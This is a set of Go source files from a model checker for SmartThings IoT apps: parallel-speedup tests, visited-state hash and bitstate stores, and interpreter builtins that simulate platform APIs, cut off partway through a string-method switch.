// workSys is a CPU-bound synthetic system: a fanout-ary tree where
// inspecting each state burns a deterministic amount of work, standing
// in for the Groovy handler interpretation that dominates real model
// expansion. A tree has no shared substructure, so the visited store
// never prunes and every strategy performs identical work.
type workSys struct {
	fanout, levels uint64
	spin           int
}

func (w *workSys) Initial() State { return workState{} }

func (w *workSys) Expand(s State) []Transition {
	st := s.(workState)
	if st.level >= w.levels {
		return nil
	}
	out := make([]Transition, 0, w.fanout)
	for i := uint64(0); i < w.fanout; i++ {
		out = append(out, Transition{
			Label: "child",
			Next:  workState{level: st.level + 1, idx: st.idx*w.fanout + i},
		})
	}
	return out
}

func (w *workSys) Inspect(s State) []Violation {
	st := s.(workState)
	x := st.idx + 1
	for i := 0; i < w.spin; i++ {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
	}
	if x == 0 { // never true: xorshift never maps nonzero to zero
		return []Violation{{Property: "impossible"}}
	}
	return nil
}

// TestParallelSpeedupMultiCore asserts the acceptance criterion that
// the parallel strategy achieves a ≥2× speedup at GOMAXPROCS workers
// versus 1 worker on a machine with at least 4 cores (the CI runner;
// single-core dev containers and race-instrumented runs skip it).
func TestParallelSpeedupMultiCore(t *testing.T) {
	procs := runtime.GOMAXPROCS(0)
	if raceEnabled {
		t.Skip("timing assertion skipped under the race detector")
	}
	if procs < 4 {
		t.Skipf("need ≥4 CPUs for the speedup assertion, have %d", procs)
	}

	sys := &workSys{fanout: 8, levels: 5, spin: 2000}
	opts := Options{MaxDepth: 8, Strategy: StrategyParallel}

	measure := func(workers int) time.Duration {
		best := time.Duration(0)
		for i := 0; i < 2; i++ { // best-of-2 damps scheduler noise
			o := opts
			o.Workers = workers
			start := time.Now()
			res := Run(sys, o)
			elapsed := time.Since(start)
			if res.Truncated {
				t.Fatal("workload unexpectedly truncated")
			}
			if best == 0 || elapsed < best {
				best = elapsed
			}
		}
		return best
	}

	t1 := measure(1)
	tn := measure(procs)
	speedup := float64(t1) / float64(tn)
	t.Logf("1 worker: %v, %d workers: %v → %.2fx speedup", t1, procs, tn, speedup)
	if speedup < 2.0 {
		t.Errorf("parallel speedup %.2fx < 2.0x at %d workers", speedup, procs)
	}
}

// TestStealSpeedupMultiCore asserts the same ≥2× speedup criterion for
// the work-stealing strategy, and additionally that on this CPU-bound
// workload steal at GOMAXPROCS workers is no slower than the
// level-synchronous frontier at the same worker count (the steal
// design exists to remove the per-level merge barrier, so it must not
// give back the parallelism the barrier-free search buys).
func TestStealSpeedupMultiCore(t *testing.T) {
	procs := runtime.GOMAXPROCS(0)
	if raceEnabled {
		t.Skip("timing assertion skipped under the race detector")
	}
	if procs < 4 {
		t.Skipf("need ≥4 CPUs for the speedup assertion, have %d", procs)
	}

	sys := &workSys{fanout: 8, levels: 5, spin: 2000}

	measure := func(strategy StrategyKind, workers int) time.Duration {
		best := time.Duration(0)
		for i := 0; i < 3; i++ { // best-of-3 damps scheduler noise
			o := Options{MaxDepth: 8, Strategy: strategy, Workers: workers}
			start := time.Now()
			res := Run(sys, o)
			elapsed := time.Since(start)
			if res.Truncated {
				t.Fatal("workload unexpectedly truncated")
			}
			if best == 0 || elapsed < best {
				best = elapsed
			}
		}
		return best
	}

	t1 := measure(StrategySteal, 1)
	tn := measure(StrategySteal, procs)
	speedup := float64(t1) / float64(tn)
	t.Logf("steal: 1 worker %v, %d workers %v → %.2fx speedup", t1, procs, tn, speedup)
	if speedup < 2.0 {
		t.Errorf("steal speedup %.2fx < 2.0x at %d workers", speedup, procs)
	}

	// Cross-strategy ratio: steal exists to remove the level barrier, so
	// it must not fall far behind the level-synchronous search at equal
	// workers. Absolute times of two different algorithms on a shared
	// runner carry noise that best-of-N does not fully cancel, so the
	// bound only catches gross regressions (e.g. a reintroduced
	// barrier); the equal-work benchmark tracks the fine-grained ratio.
	tbfs := measure(StrategyParallel, procs)
	ratio := float64(tbfs) / float64(tn)
	t.Logf("at %d workers: parallel %v, steal %v → steal %.2fx of parallel", procs, tbfs, tn, ratio)
	if ratio < 0.7 {
		t.Errorf("steal is %.2fx the speed of the level-synchronous strategy at %d workers", ratio, procs)
	}
}
