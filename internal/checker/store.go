package checker

import (
	"sync"
	"sync/atomic"
)

// digest is the 128-bit fingerprint of an encoded state vector: two
// independent 64-bit hashes. h1 keys the exhaustive store and the
// parent-link table; bitstate probes are derived from both by double
// hashing, so the k probe positions are pairwise independent instead of
// all being unfolded from a single 64-bit value.
//
// Both hashes are deterministic functions of the state vector (FNV-1a
// and an independent multiplicative-xor hash) rather than seeded
// hash/maphash: a model checker's runs must be reproducible — a
// bitstate run that pruned a violation behind a hash collision has to
// prune the same states when rerun — and the exhaustive exploration
// stays byte-for-byte identical across invocations.
type digest struct{ h1, h2 uint64 }

// fnv1a is the primary state-vector hash (the same function the
// original sequential checker used, keeping exploration identical).
// Raw hash primitive: every call outside engine.digest bypasses the
// single digest funnel and is rejected by the digestfunnel analyzer.
//
//iotsan:hash-sink
func fnv1a(data []byte) uint64 {
	const (
		offset = 14695981039346656037
		prime  = 1099511628211
	)
	h := uint64(offset)
	for _, b := range data {
		h ^= uint64(b)
		h *= prime
	}
	return h
}

// hash2 is the second, independent hash for bitstate double hashing: a
// multiplicative-xor pass with a different odd multiplier (so it is not
// an affine transform of fnv1a — FNV with a different offset basis
// would be), finalized with splitmix64 for avalanche.
//
//iotsan:hash-sink
func hash2(data []byte) uint64 {
	const mult = 0x9e3779b97f4a7c15 // 2^64/φ, odd
	h := uint64(0x2545f4914f6cdd1d)
	for _, b := range data {
		h = (h ^ uint64(b)) * mult
	}
	h ^= h >> 30
	h *= 0xbf58476d1ce4e5b9
	h ^= h >> 27
	h *= 0x94d049bb133111eb
	h ^= h >> 31
	return h
}

// store is the visited-state set abstraction. seen inserts the state
// fingerprint, reporting whether it was already present; peek looks a
// fingerprint up without inserting it (the partial-order reduction
// proviso probes candidate successors before committing to a reduced
// expansion); size returns the number of stored entries (approximate
// for bitstate).
//
// Sequential stores (hashStore, bitStore, nopStore) are not safe for
// concurrent use; the engine selects their sharded/atomic counterparts
// (shardedHashStore, atomicBitStore, atomicNopStore) for the parallel
// strategy.
type store interface {
	seen(d digest) bool
	peek(d digest) bool
	size() int
}

// newStore builds the visited store for a run. parallel selects the
// concurrency-safe variants; the tiered store is concurrency-safe by
// construction and serves both. A tiered store that cannot open its
// files (missing StoreDir, I/O failure) is an environment error the
// caller cannot recover mid-run, so it panics with the cause — the
// iotsan layer validates and creates the directory before running.
func newStore(opts Options, parallel bool) store {
	switch {
	case opts.NoDedup:
		if parallel {
			return &atomicNopStore{}
		}
		return &nopStore{}
	case opts.Store == Bitstate:
		if parallel {
			return newAtomicBitStore(opts.BitstateBits, opts.BitstateK)
		}
		return newBitStore(opts.BitstateBits, opts.BitstateK)
	case opts.Store == Tiered:
		ts, err := newTieredStore(opts.StoreDir, opts.MemBudget)
		if err != nil {
			panic(err)
		}
		return ts
	default:
		if parallel {
			return newShardedHashStore()
		}
		return &hashStore{m: map[uint64]struct{}{}}
	}
}

// hashStore is the sequential exhaustive hash-compact store.
type hashStore struct{ m map[uint64]struct{} }

func (s *hashStore) seen(d digest) bool {
	if _, ok := s.m[d.h1]; ok {
		return true
	}
	s.m[d.h1] = struct{}{}
	return false
}

func (s *hashStore) peek(d digest) bool {
	_, ok := s.m[d.h1]
	return ok
}

func (s *hashStore) size() int { return len(s.m) }

// hashShards is the number of lock stripes in the sharded store. 256
// stripes keep contention negligible for any practical worker count
// while costing only a few KB of mutexes.
const hashShards = 256

// shardedHashStore is the lock-striped exhaustive store for the
// parallel strategy: h1's top bits pick a shard, so insertions from
// different workers rarely contend on the same mutex.
type shardedHashStore struct {
	//iotsan:padded
	shards [hashShards]struct {
		mu sync.Mutex
		m  map[uint64]struct{}
		// pad the 8-byte mutex + 8-byte map header to a full 64-byte
		// cache line so neighboring shards' hot mutexes never false-share
		_ [48]byte
	}
}

func newShardedHashStore() *shardedHashStore {
	s := &shardedHashStore{}
	for i := range s.shards {
		s.shards[i].m = make(map[uint64]struct{})
	}
	return s
}

func (s *shardedHashStore) seen(d digest) bool {
	sh := &s.shards[d.h1>>56&(hashShards-1)]
	sh.mu.Lock()
	_, ok := sh.m[d.h1]
	if !ok {
		sh.m[d.h1] = struct{}{}
	}
	sh.mu.Unlock()
	return ok
}

func (s *shardedHashStore) peek(d digest) bool {
	sh := &s.shards[d.h1>>56&(hashShards-1)]
	sh.mu.Lock()
	_, ok := sh.m[d.h1]
	sh.mu.Unlock()
	return ok
}

func (s *shardedHashStore) size() int {
	n := 0
	for i := range s.shards {
		s.shards[i].mu.Lock()
		n += len(s.shards[i].m)
		s.shards[i].mu.Unlock()
	}
	return n
}

// bitstateDefaults normalises the bitstate sizing parameters.
func bitstateDefaults(logBits uint, k int) (uint, int) {
	if logBits == 0 {
		logBits = 26
	}
	if logBits < 10 {
		logBits = 10
	}
	if k <= 0 {
		k = 3
	}
	return logBits, k
}

// probe returns the i-th bit position for a fingerprint by double
// hashing: pos_i = h1 + i*(h2|1). Forcing the stride odd keeps it
// coprime with the power-of-two table size, so the k probes are
// distinct and independent across the two hash functions.
func (d digest) probe(i int, mask uint64) uint64 {
	return (d.h1 + uint64(i)*(d.h2|1)) & mask
}

// bitStore is Spin's BITSTATE: k probes into a 2^bits bit array.
type bitStore struct {
	bits  []uint64
	mask  uint64
	k     int
	count int
}

func newBitStore(logBits uint, k int) *bitStore {
	logBits, k = bitstateDefaults(logBits, k)
	n := uint64(1) << logBits
	return &bitStore{bits: make([]uint64, n/64), mask: n - 1, k: k}
}

func (s *bitStore) seen(d digest) bool {
	all := true
	for i := 0; i < s.k; i++ {
		pos := d.probe(i, s.mask)
		w, b := pos/64, pos%64
		if s.bits[w]&(1<<b) == 0 {
			all = false
			s.bits[w] |= 1 << b
		}
	}
	if !all {
		s.count++
	}
	return all
}

func (s *bitStore) peek(d digest) bool {
	for i := 0; i < s.k; i++ {
		pos := d.probe(i, s.mask)
		if s.bits[pos/64]&(1<<(pos%64)) == 0 {
			return false
		}
	}
	return true
}

func (s *bitStore) size() int { return s.count }

// atomicBitStore is the bitstate store for the parallel strategy: the
// same probe scheme with lock-free atomic bit operations, so insertion
// scales with cores. Two workers racing on the same unseen state may
// both observe it as new (both count it explored); that duplication is
// harmless — successors are deduplicated at the next level — and is the
// standard trade-off in lock-free bitstate implementations.
type atomicBitStore struct {
	bits  []atomic.Uint64
	mask  uint64
	k     int
	count atomic.Int64
}

func newAtomicBitStore(logBits uint, k int) *atomicBitStore {
	logBits, k = bitstateDefaults(logBits, k)
	n := uint64(1) << logBits
	return &atomicBitStore{bits: make([]atomic.Uint64, n/64), mask: n - 1, k: k}
}

func (s *atomicBitStore) seen(d digest) bool {
	all := true
	for i := 0; i < s.k; i++ {
		pos := d.probe(i, s.mask)
		w, b := pos/64, pos%64
		if !s.setBit(w, uint64(1)<<b) {
			all = false
		}
	}
	if !all {
		s.count.Add(1)
	}
	return all
}

// setBit sets mask's bit in word w, reporting whether it was already
// set. A load + CompareAndSwap loop rather than atomic.Uint64.Or: with
// the Or form, go1.24.0 emits code for this method that faults on its
// first call (SIGSEGV in the checker's test suite, reproducible by
// swapping the forms back; a minimal standalone Or-with-result-consumed
// program does not trigger it, so the miscompilation is specific to
// this inlining/register context). The load fast path — bit already
// set, no write — is also what bitstate lookups mostly hit once the
// array fills.
func (s *atomicBitStore) setBit(w, mask uint64) bool {
	for {
		old := s.bits[w].Load()
		if old&mask != 0 {
			return true
		}
		if s.bits[w].CompareAndSwap(old, old|mask) {
			return false
		}
	}
}

func (s *atomicBitStore) peek(d digest) bool {
	for i := 0; i < s.k; i++ {
		pos := d.probe(i, s.mask)
		if s.bits[pos/64].Load()&(1<<(pos%64)) == 0 {
			return false
		}
	}
	return true
}

func (s *atomicBitStore) size() int { return int(s.count.Load()) }

// nopStore disables state matching (NoDedup).
type nopStore struct{ count int }

func (s *nopStore) seen(digest) bool { s.count++; return false }
func (s *nopStore) peek(digest) bool { return false }
func (s *nopStore) size() int        { return s.count }

type atomicNopStore struct{ count atomic.Int64 }

func (s *atomicNopStore) seen(digest) bool { s.count.Add(1); return false }
func (s *atomicNopStore) peek(digest) bool { return false }
func (s *atomicNopStore) size() int        { return int(s.count.Load()) }
