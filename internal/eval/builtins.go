package eval

import (
	"fmt"
	"math"
	"strings"

	"iotsan/internal/groovy"
	"iotsan/internal/ir"
)

// rt is the runtime context the shared builtin implementations execute
// against. Two implementations exist: the tree-walking Evaluator (the
// differential-testing oracle) and the compiled Env (the hot path).
// Keeping every SmartThings builtin — collection utilities, string
// methods, device calls, platform APIs — behind this interface is what
// guarantees the two execution modes are observationally identical: they
// run the same code for everything except variable access and control
// flow.
type rt interface {
	rtHost() Host
	rtAppName() string
	// rtCall invokes a closure handle with arguments. Handles are
	// mode-specific: the interpreter passes scoped AST closures, the
	// compiler passes compiled closure functions.
	rtCall(cl any, args []ir.Value) (ir.Value, error)
}

// closTruthy applies a predicate closure to an item; a nil closure is an
// identity-truthiness test.
func closTruthy(r rt, cl any, item ir.Value) (bool, error) {
	if cl == nil {
		return item.Truthy(), nil
	}
	v, err := r.rtCall(cl, []ir.Value{item})
	if err != nil {
		return false, err
	}
	return v.Truthy(), nil
}

func argStr(args []ir.Value, i int) string {
	if i >= len(args) {
		return ""
	}
	return args[i].String()
}

// handlerName resolves the handler argument of runIn/schedule: the
// runtime string when it is one, otherwise the syntactic identifier.
func handlerName(v ir.Value, x *groovy.CallExpr, argIdx int) string {
	if v.Kind == ir.VStr && v.S != "" && !strings.HasPrefix(v.S, "<") {
		return v.S
	}
	// A bare identifier evaluated to null/placeholder: recover the name
	// syntactically.
	if argIdx < len(x.Args) {
		if id, ok := x.Args[argIdx].(*groovy.Ident); ok {
			return id.Name
		}
	}
	return v.String()
}

// bareBuiltinNames is the authoritative membership set for bareBuiltin:
// the compiler resolves bare calls against it at compile time, and
// bareBuiltin gates on it at run time, so the two can never disagree.
var bareBuiltinNames = map[string]bool{
	"subscribe": true, "unsubscribe": true, "unschedule": true,
	"sendSms": true, "sendSmsMessage": true,
	"sendPush": true, "sendPushMessage": true, "sendNotification": true,
	"sendNotificationToContacts": true, "sendNotificationEvent": true,
	"httpPost": true, "httpPostJson": true, "httpGet": true, "httpPut": true, "httpDelete": true,
	"sendEvent": true, "setLocationMode": true,
	"runIn": true, "schedule": true, "runOnce": true,
	"runEvery1Minute": true, "runEvery5Minutes": true, "runEvery10Minutes": true,
	"runEvery15Minutes": true, "runEvery30Minutes": true, "runEvery1Hour": true, "runEvery3Hours": true,
	"now": true, "canSchedule": true, "timeOfDayIsBetween": true,
	"getSunriseAndSunset": true, "timeToday": true, "timeTodayAfter": true, "toDateTime": true,
	"parseJson": true, "parseLanMessage": true, "pause": true,
	"getAllChildDevices": true, "getChildDevices": true,
}

// isBareBuiltin reports whether a receiverless call name is a platform
// builtin (handled before user methods, like the interpreter).
func isBareBuiltin(name string) bool { return bareBuiltinNames[name] }

// bareBuiltin dispatches the receiverless platform APIs. It reports
// whether the name was handled; unhandled names fall through to user
// methods.
func bareBuiltin(r rt, x *groovy.CallExpr, args []ir.Value, named map[string]ir.Value) (ir.Value, bool) {
	if !bareBuiltinNames[x.Name] {
		return ir.NullV(), false
	}
	host := r.rtHost()
	switch x.Name {
	case "subscribe":
		// Runtime re-subscription: wiring is static; nothing to do.
		return ir.NullV(), true
	case "unsubscribe":
		host.Unsubscribe()
		return ir.NullV(), true
	case "unschedule":
		host.Unschedule()
		return ir.NullV(), true
	case "sendSms", "sendSmsMessage":
		phone, msg := argStr(args, 0), argStr(args, 1)
		host.SendSMS(phone, msg)
		return ir.NullV(), true
	case "sendPush", "sendPushMessage", "sendNotification":
		host.SendPush(argStr(args, 0))
		return ir.NullV(), true
	case "sendNotificationToContacts":
		host.SendNotificationToContacts(argStr(args, 0))
		return ir.NullV(), true
	case "sendNotificationEvent":
		host.Log("notification", argStr(args, 0))
		return ir.NullV(), true
	case "httpPost", "httpPostJson", "httpGet", "httpPut", "httpDelete":
		method := strings.ToUpper(strings.TrimPrefix(x.Name, "http"))
		url := argStr(args, 0)
		if url == "" {
			if u, ok := named["uri"]; ok {
				url = u.String()
			}
		}
		host.HTTPRequest(method, url)
		return ir.NullV(), true
	case "sendEvent":
		name, value := "", ""
		if v, ok := named["name"]; ok {
			name = v.String()
		}
		if v, ok := named["value"]; ok {
			value = v.String()
		}
		host.SendEvent(name, value)
		return ir.NullV(), true
	case "setLocationMode":
		host.SetLocationMode(argStr(args, 0))
		return ir.NullV(), true
	case "runIn":
		if len(args) >= 2 {
			host.Schedule(handlerName(args[1], x, 1), args[0].AsInt())
		}
		return ir.NullV(), true
	case "schedule":
		if len(args) >= 2 {
			host.Schedule(handlerName(args[1], x, 1), 3600)
		}
		return ir.NullV(), true
	case "runEvery1Minute", "runEvery5Minutes", "runEvery10Minutes",
		"runEvery15Minutes", "runEvery30Minutes", "runEvery1Hour", "runEvery3Hours":
		if len(args) >= 1 {
			host.Schedule(handlerName(args[0], x, 0), 300)
		}
		return ir.NullV(), true
	case "runOnce":
		if len(args) >= 2 {
			host.Schedule(handlerName(args[1], x, 1), 60)
		}
		return ir.NullV(), true
	case "now":
		return ir.IntV(host.Now()), true
	case "canSchedule":
		return ir.BoolV(true), true
	case "timeOfDayIsBetween":
		// Modeled coarsely: true — time windows are explored through
		// event permutations, not wall-clock arithmetic.
		return ir.BoolV(true), true
	case "getSunriseAndSunset":
		return ir.MapV(map[string]ir.Value{
			"sunrise": ir.IntV(6 * 3600),
			"sunset":  ir.IntV(18 * 3600),
		}), true
	case "timeToday", "timeTodayAfter", "toDateTime":
		if len(args) > 0 {
			return args[0], true
		}
		return ir.IntV(host.Now()), true
	case "parseJson", "parseLanMessage":
		return ir.MapV(map[string]ir.Value{}), true
	case "pause":
		return ir.NullV(), true
	case "getAllChildDevices", "getChildDevices":
		return ir.ListV(nil), true
	}
	return ir.NullV(), false
}

// mathMethod evaluates Math.<name> over float arguments.
func mathMethod(appName, name string, args []float64, pos groovy.Pos) (ir.Value, error) {
	f := func(i int) float64 {
		if i < len(args) {
			return args[i]
		}
		return 0
	}
	switch name {
	case "max":
		return ir.NumV(math.Max(f(0), f(1))), nil
	case "min":
		return ir.NumV(math.Min(f(0), f(1))), nil
	case "abs":
		return ir.NumV(math.Abs(f(0))), nil
	case "round":
		return ir.IntV(int64(math.Round(f(0)))), nil
	case "floor":
		return ir.NumV(math.Floor(f(0))), nil
	case "ceil":
		return ir.NumV(math.Ceil(f(0))), nil
	case "sqrt":
		return ir.NumV(math.Sqrt(f(0))), nil
	case "pow":
		return ir.NumV(math.Pow(f(0), f(1))), nil
	case "random":
		// Deterministic for model checking: the midpoint.
		return ir.NumV(0.5), nil
	}
	return ir.NullV(), &ExecError{App: appName, Pos: pos,
		Msg: fmt.Sprintf("unsupported Math.%s", name)}
}

// methodOnValue dispatches a method call on a concrete receiver value:
// device commands, collection utilities, string methods. It reports
// handled=false for receiver kinds whose dispatch falls through to the
// caller's location-object check (mirroring the interpreter's switch).
func methodOnValue(r rt, recv ir.Value, x *groovy.CallExpr, args []ir.Value, cl any) (ir.Value, bool, error) {
	switch recv.Kind {
	case ir.VDevice:
		v, err := deviceMethod(r.rtHost(), recv.Dev, x, args)
		return v, true, err
	case ir.VDevices:
		// Command on a multiple:true input fans out to every device.
		for _, d := range recv.L {
			if _, err := deviceMethod(r.rtHost(), d.Dev, x, args); err != nil {
				return ir.NullV(), true, err
			}
		}
		return ir.NullV(), true, nil
	case ir.VList:
		v, err := listMethod(r, recv, x, args, cl)
		return v, true, err
	case ir.VMap:
		v, err := mapMethod(r, recv, x, args, cl)
		return v, true, err
	case ir.VStr:
		v, err := stringMethod(r.rtAppName(), recv, x, args)
		return v, true, err
	case ir.VInt, ir.VNum:
		switch x.Name {
		case "toInteger", "intValue", "longValue", "round":
			return ir.IntV(recv.AsInt()), true, nil
		case "toFloat", "toDouble", "toBigDecimal", "floatValue", "doubleValue":
			return ir.NumV(recv.AsFloat()), true, nil
		case "toString":
			return ir.StrV(recv.String()), true, nil
		case "intdiv":
			if len(args) > 0 && args[0].AsInt() != 0 {
				return ir.IntV(recv.AsInt() / args[0].AsInt()), true, nil
			}
			return ir.IntV(0), true, nil
		case "abs":
			if recv.Kind == ir.VNum {
				return ir.NumV(math.Abs(recv.F)), true, nil
			}
			if recv.I < 0 {
				return ir.IntV(-recv.I), true, nil
			}
			return recv, true, nil
		case "times":
			if cl != nil {
				for i := int64(0); i < recv.AsInt(); i++ {
					if _, err := r.rtCall(cl, []ir.Value{ir.IntV(i)}); err != nil {
						return ir.NullV(), true, err
					}
				}
			}
			return ir.NullV(), true, nil
		}
	}
	return ir.NullV(), false, nil
}

// deviceMethod delivers a command or a read API to one device.
func deviceMethod(host Host, dev int, x *groovy.CallExpr, args []ir.Value) (ir.Value, error) {
	switch x.Name {
	case "currentValue", "latestValue":
		if v, ok := host.DeviceAttr(dev, argStr(args, 0)); ok {
			return v, nil
		}
		return ir.NullV(), nil
	case "currentState", "latestState":
		if v, ok := host.DeviceAttr(dev, argStr(args, 0)); ok {
			return ir.MapV(map[string]ir.Value{
				"value": toStringValue(v),
				"name":  ir.StrV(argStr(args, 0)),
				"date":  ir.IntV(host.Now()),
			}), nil
		}
		return ir.NullV(), nil
	case "hasCapability", "hasCommand", "hasAttribute":
		return ir.BoolV(true), nil
	case "getDisplayName", "getLabel", "getName", "toString":
		return ir.StrV(host.DeviceLabel(dev)), nil
	case "events", "eventsSince", "statesSince":
		return ir.ListV(nil), nil
	case "supportedAttributes":
		return ir.ListV(nil), nil
	}
	// Anything else is an actuator command (on, off, lock, unlock,
	// setLevel, siren, ...); the host validates it against the model.
	host.DeviceCommand(dev, x.Name, args)
	return ir.NullV(), nil
}

// listMethod implements the Groovy collection utilities the paper's
// translator supports (§6: find, findAll, each, collect, first, +, ...).
func listMethod(r rt, recv ir.Value, x *groovy.CallExpr, args []ir.Value, cl any) (ir.Value, error) {
	items := recv.L
	switch x.Name {
	case "each":
		if cl != nil {
			for _, item := range items {
				if _, err := r.rtCall(cl, []ir.Value{item}); err != nil {
					return ir.NullV(), err
				}
			}
		}
		return recv, nil
	case "eachWithIndex":
		if cl != nil {
			for i, item := range items {
				if _, err := r.rtCall(cl, []ir.Value{item, ir.IntV(int64(i))}); err != nil {
					return ir.NullV(), err
				}
			}
		}
		return recv, nil
	case "find":
		for _, item := range items {
			ok, err := closTruthy(r, cl, item)
			if err != nil {
				return ir.NullV(), err
			}
			if ok {
				return item, nil
			}
		}
		return ir.NullV(), nil
	case "findAll":
		var out []ir.Value
		for _, item := range items {
			ok, err := closTruthy(r, cl, item)
			if err != nil {
				return ir.NullV(), err
			}
			if ok {
				out = append(out, item)
			}
		}
		return sameKind(recv, out), nil
	case "collect":
		var out []ir.Value
		for _, item := range items {
			v := item
			if cl != nil {
				var err error
				v, err = r.rtCall(cl, []ir.Value{item})
				if err != nil {
					return ir.NullV(), err
				}
			}
			out = append(out, v)
		}
		return ir.ListV(out), nil
	case "any":
		for _, item := range items {
			ok, err := closTruthy(r, cl, item)
			if err != nil {
				return ir.NullV(), err
			}
			if ok {
				return ir.BoolV(true), nil
			}
		}
		return ir.BoolV(false), nil
	case "every":
		for _, item := range items {
			ok, err := closTruthy(r, cl, item)
			if err != nil {
				return ir.NullV(), err
			}
			if !ok {
				return ir.BoolV(false), nil
			}
		}
		return ir.BoolV(true), nil
	case "count":
		if cl == nil && len(args) == 1 {
			n := 0
			for _, item := range items {
				if looseEqual(item, args[0]) {
					n++
				}
			}
			return ir.IntV(int64(n)), nil
		}
		n := 0
		for _, item := range items {
			ok, err := closTruthy(r, cl, item)
			if err != nil {
				return ir.NullV(), err
			}
			if ok {
				n++
			}
		}
		return ir.IntV(int64(n)), nil
	case "first":
		if len(items) > 0 {
			return items[0], nil
		}
		return ir.NullV(), nil
	case "last":
		if len(items) > 0 {
			return items[len(items)-1], nil
		}
		return ir.NullV(), nil
	case "size":
		return ir.IntV(int64(len(items))), nil
	case "isEmpty":
		return ir.BoolV(len(items) == 0), nil
	case "contains":
		for _, item := range items {
			if len(args) > 0 && looseEqual(item, args[0]) {
				return ir.BoolV(true), nil
			}
		}
		return ir.BoolV(false), nil
	case "sum":
		sum := 0.0
		isInt := true
		for _, item := range items {
			if item.Kind == ir.VNum {
				isInt = false
			}
			sum += item.AsFloat()
		}
		if isInt {
			return ir.IntV(int64(sum)), nil
		}
		return ir.NumV(sum), nil
	case "max":
		var best ir.Value
		for i, item := range items {
			if i == 0 {
				best = item
				continue
			}
			if c, ok := compareValues(item, best); ok && c > 0 {
				best = item
			}
		}
		return best, nil
	case "min":
		var best ir.Value
		for i, item := range items {
			if i == 0 {
				best = item
				continue
			}
			if c, ok := compareValues(item, best); ok && c < 0 {
				best = item
			}
		}
		return best, nil
	case "join":
		sep := argStr(args, 0)
		parts := make([]string, len(items))
		for i, item := range items {
			parts[i] = item.String()
		}
		return ir.StrV(strings.Join(parts, sep)), nil
	case "reverse":
		out := make([]ir.Value, len(items))
		for i, item := range items {
			out[len(items)-1-i] = item
		}
		return sameKind(recv, out), nil
	case "sort":
		out := append([]ir.Value{}, items...)
		for i := 1; i < len(out); i++ { // insertion sort: stable, no deps
			for j := i; j > 0; j-- {
				if c, ok := compareValues(out[j], out[j-1]); ok && c < 0 {
					out[j], out[j-1] = out[j-1], out[j]
				} else {
					break
				}
			}
		}
		return sameKind(recv, out), nil
	case "unique":
		var out []ir.Value
		for _, item := range items {
			dup := false
			for _, o := range out {
				if looseEqual(item, o) {
					dup = true
				}
			}
			if !dup {
				out = append(out, item)
			}
		}
		return sameKind(recv, out), nil
	case "add", "push", "leftShift":
		// Mutation is modeled by returning the extended list; persisted
		// state lists are reassigned by the caller.
		if len(args) > 0 {
			return sameKind(recv, append(append([]ir.Value{}, items...), args[0])), nil
		}
		return recv, nil
	case "plus":
		if len(args) > 0 {
			return sameKind(recv, append(append([]ir.Value{}, items...), iterate(args[0])...)), nil
		}
		return recv, nil
	case "minus":
		v, err := binaryOp(groovy.Minus, recv, args[0], x.Pos, r.rtAppName())
		return v, err
	case "get", "getAt":
		if len(args) > 0 {
			i := int(args[0].AsInt())
			if i >= 0 && i < len(items) {
				return items[i], nil
			}
		}
		return ir.NullV(), nil
	case "indexOf":
		for i, item := range items {
			if len(args) > 0 && looseEqual(item, args[0]) {
				return ir.IntV(int64(i)), nil
			}
		}
		return ir.IntV(-1), nil
	case "toString":
		return ir.StrV(recv.String()), nil
	}
	return ir.NullV(), &ExecError{App: r.rtAppName(), Pos: x.Pos,
		Msg: fmt.Sprintf("unsupported list method %q", x.Name)}
}

// sameKind preserves VDevices-ness across collection operations.
func sameKind(orig ir.Value, items []ir.Value) ir.Value {
	if orig.Kind == ir.VDevices {
		allDev := true
		for _, it := range items {
			if it.Kind != ir.VDevice {
				allDev = false
			}
		}
		if allDev {
			return ir.DevicesV(items)
		}
	}
	return ir.ListV(items)
}

func mapMethod(r rt, recv ir.Value, x *groovy.CallExpr, args []ir.Value, cl any) (ir.Value, error) {
	switch x.Name {
	case "get":
		return recv.M[argStr(args, 0)], nil
	case "put":
		if len(args) >= 2 {
			recv.M[args[0].String()] = args[1]
		}
		return ir.NullV(), nil
	case "containsKey":
		_, ok := recv.M[argStr(args, 0)]
		return ir.BoolV(ok), nil
	case "remove":
		v := recv.M[argStr(args, 0)]
		delete(recv.M, argStr(args, 0))
		return v, nil
	case "size":
		return ir.IntV(int64(len(recv.M))), nil
	case "isEmpty":
		return ir.BoolV(len(recv.M) == 0), nil
	case "each":
		if cl != nil {
			for _, k := range sortedKeys(recv.M) {
				entry := ir.MapV(map[string]ir.Value{"key": ir.StrV(k), "value": recv.M[k]})
				if _, err := r.rtCall(cl, []ir.Value{entry}); err != nil {
					return ir.NullV(), err
				}
			}
		}
		return recv, nil
	case "keySet", "keys":
		var out []ir.Value
		for _, k := range sortedKeys(recv.M) {
			out = append(out, ir.StrV(k))
		}
		return ir.ListV(out), nil
	case "values":
		var out []ir.Value
		for _, k := range sortedKeys(recv.M) {
			out = append(out, recv.M[k])
		}
		return ir.ListV(out), nil
	case "toString":
		return ir.StrV(recv.String()), nil
	}
	return ir.NullV(), &ExecError{App: r.rtAppName(), Pos: x.Pos,
		Msg: fmt.Sprintf("unsupported map method %q", x.Name)}
}

func stringMethod(appName string, recv ir.Value, x *groovy.CallExpr, args []ir.Value) (ir.Value, error) {
	s := recv.S
	switch x.Name {
	case "toInteger", "toLong":
		if n, ok := parseNumeric(s); ok {
			return ir.IntV(n.AsInt()), nil
		}
		return ir.IntV(0), nil
	case "toFloat", "toDouble", "toBigDecimal":
		if n, ok := parseNumeric(s); ok {
			return ir.NumV(n.AsFloat()), nil
		}
		return ir.NumV(0), nil
	case "isNumber", "isInteger":
		_, ok := parseNumeric(s)
		return ir.BoolV(ok), nil
	case "toLowerCase":
		return ir.StrV(strings.ToLower(s)), nil
	case "toUpperCase":
		return ir.StrV(strings.ToUpper(s)), nil
	case "trim":
		return ir.StrV(strings.TrimSpace(s)), nil
	case "contains":
		return ir.BoolV(strings.Contains(s, argStr(args, 0))), nil
	case "startsWith":
		return ir.BoolV(strings.HasPrefix(s, argStr(args, 0))), nil
	case "endsWith":
		return ir.BoolV(strings.HasSuffix(s, argStr(args, 0))), nil
	case "equals", "equalsIgnoreCase":
		if x.Name == "equalsIgnoreCase" {
			return ir.BoolV(strings.EqualFold(s, argStr(args, 0))), nil
		}
		return ir.BoolV(s == argStr(args, 0)), nil
	case "replace", "replaceAll":
		if len(args) >= 2 {
			return ir.StrV(strings.ReplaceAll(s, args[0].String(), args[1].String())), nil
		}
		return recv, nil
	case "split", "tokenize":
